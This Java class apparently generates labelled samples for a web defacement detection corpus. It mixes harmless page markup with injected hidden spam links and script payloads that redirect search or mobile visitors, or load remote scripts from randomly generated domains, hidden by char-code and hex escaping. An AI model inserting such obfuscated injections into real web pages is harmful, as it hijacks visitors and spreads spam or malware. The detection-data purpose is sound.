package org.fenzhan.defacement.corpus;

import java.util.List;
import org.fenzhan.defacement.corpus.Sample.Gold;
import org.fenzhan.defacement.page.Context;
import org.fenzhan.defacement.page.Page;

/// Puts hidden links and scripts into markup that has honest hidden parts and scripts of its own.
final class MarkupTampering {
    static final String ADDRESS = "http://www.old-site.cn/news/1024.html";

    private final Draw draw;
    private final Brands brands;

    MarkupTampering(Draw draw, Brands brands) {
        this.draw = draw;
        this.brands = brands;
    }

    Page honest(Page page) {
        return page.withHtml(markup(page, "")).withAddress(ADDRESS);
    }

    Sample hidden(Page page) {
        String block = block(links());
        return sample(page, "hidden-block", block, 0, block.length());
    }

    Sample script(Page page) {
        String code = code("//js." + draw.of("kq yy zx mm") + draw.between(10, 999) + ".com/a.js");
        String block = "<script>" + code + "</script>";
        return sample(page, "script", block, 8, 8 + code.length());
    }

    private Sample sample(Page page, String sort, String block, int from, int to) {
        String html = markup(page, block);
        int start = html.indexOf(block);
        return new Sample(
                page.withHtml(html).withAddress(ADDRESS),
                Context.EMPTY,
                sort,
                List.of(new Gold(Page.HTML, start + from, start + to, "", true)),
                false);
    }

    private String links() {
        StringBuilder links = new StringBuilder();
        for (int i = draw.between(1, 5); i > 0; i--) {
            String brand = brands.spellings().get(0);
            links.append("<a href=\"http://www.")
                    .append(draw.of("kq yy zx mm"))
                    .append(draw.between(10, 9999))
                    .append(".com/\">")
                    .append(brand)
                    .append("</a> ");
        }
        return links.toString();
    }

    private String block(String links) {
        return switch (draw.below(9)) {
            case 0 -> "<div style=\"display:none\">" + links + "</div>";
            case 1 -> "<div style=\"position:absolute;left:-9999px\">" + links + "</div>";
            case 2 -> "<p style='font-size:0px'>" + links + "</p>";
            case 3 -> "<span style=\"color:#fff;background:#ffffff\">" + links + "</span>";
            case 4 -> "<div style=\"text-indent: -2000px; height:1px\">" + links + "</div>";
            case 5 -> "<noscript>" + links + "</noscript>";
            case 6 -> "<marquee height=1 width=5 scrollamount=3000>" + links + "</marquee>";
            case 7 -> "<!-- " + links + " -->";
            default ->
                    "<div style=\"overflow:hidden;height:0\"><ul><li>" + links + "</li></ul></div>";
        };
    }

    private String code(String address) {
        return switch (draw.below(6)) {
            case 0 ->
                    "var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='https:"
                            + address
                            + "';}";
            case 1 ->
                    "document.write(String.fromCharCode("
                            + codes("<script src=\"" + address + "\"></script>")
                            + "));";
            case 2 ->
                    "if(/android|iphone/i.test(navigator.userAgent)){window.location.replace(\"http:"
                            + address
                            + "\");}";
            case 3 ->
                    "document.write('<scr'+'ipt src=\""
                            + address
                            + "\"></scr'+'ipt>');if(document.referrer.match(/so\\.com|baidu/)){}";
            case 4 ->
                    "window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"].write(\""
                            + hex("<script src='" + address + "'></script>")
                            + "\");document.write('');";
            default -> "document.title='" + brands.spellings().get(0) + "';";
        };
    }

    private static String codes(String text) {
        return String.join(",", text.chars().mapToObj(String::valueOf).toList());
    }

    private static String hex(String text) {
        return String.join("", text.chars().mapToObj(c -> String.format("\\x%02x", c)).toList());
    }

    private String markup(Page page, String block) {
        String[] parts = {
            "<ul class=menu style=\"display:none\"><li><a href=\"/a/\">概况</a></li><li><a href=\"/b/\">新闻</a></li></ul>",
            "<!--[if lt IE 9]><script src=\"http://cdn.bootcss.com/html5.js\"></script><![endif]-->",
            "<noscript>请启用 JavaScript</noscript><noscript><img src=\"https://hm.baidu.com/hm.gif\"></noscript>",
            "<script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?a1';document.head.appendChild(hm);})();</script>",
            "<script>if(/mobile/i.test(navigator.userAgent)){location.href='http://m.old-site.cn/';}</script>",
            "<script>document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='http://s4.cnzz.com/z_stat.php'%3E%3C/script%3E\"));</script>",
            "<!-- <div><a href=\"/old/\">旧版</a></div> -->",
            "<div style=\"display:none\" class=qr><a href=\"https://weixin.qq.com/\">微信</a><img src=qr.png></div>",
            "<a href=\"http://www.moe.gov.cn/\">主管部门</a>"
        };
        StringBuilder html =
                new StringBuilder("<html><head><title>")
                        .append(page.field("title"))
                        .append("</title></head><body>");
        List<String> some = draw.some(List.of(parts), draw.between(2, 6));
        int at = draw.below(some.size());
        for (int i = 0; i < some.size(); i++) {
            html.append(some.get(i)).append('\n');
            if (i == at) {
                html.append(block).append('\n');
            }
        }
        for (String paragraph : page.body().split("\n")) {
            html.append("<p>").append(paragraph).append("</p>\n");
        }
        return html.append("</body></html>").toString();
    }
}
